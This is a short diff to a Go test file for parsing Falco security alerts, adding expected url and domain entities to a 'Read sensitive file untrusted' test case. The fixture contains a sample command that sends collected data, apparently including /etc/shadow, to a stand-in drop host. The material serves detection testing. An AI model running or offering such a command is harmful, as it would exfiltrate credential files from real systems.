@@ -32,7 +32,7 @@ func TestFalco(t *testing.T) {
 			name: "Read sensitive file untrusted", rule: "Read sensitive file untrusted", severity: 50,
 			describes: "\nCommand: python3 /tmp/collect.py --to https://drop.example.net/up\n",
 			all: []string{"filepath /etc/shadow file,object", "process /usr/bin/python3.11 local,subject", "username deploy local,subject",
-				"username alice local,subject", "hostname db-1 local"},
+				"username alice local,subject", "hostname db-1 local", "url https://drop.example.net/up extracted", "domain drop.example.net extracted"},
 		},
 		"k8s-audit": {
 			name: "Create Privileged Pod", rule: "Create Privileged Pod", severity: 50, describes: "Pod started with privileged container",
